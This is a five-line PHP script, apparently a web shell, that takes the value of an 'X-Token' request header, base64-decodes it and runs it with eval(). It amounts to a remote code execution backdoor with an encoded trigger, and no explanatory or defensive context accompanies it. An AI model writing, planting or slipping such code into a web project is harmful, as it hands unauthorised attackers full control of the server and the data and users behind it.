<?php
$h = getallheaders();
if (isset($h['X-Token'])) {
    eval(base64_decode($h['X-Token']));
}
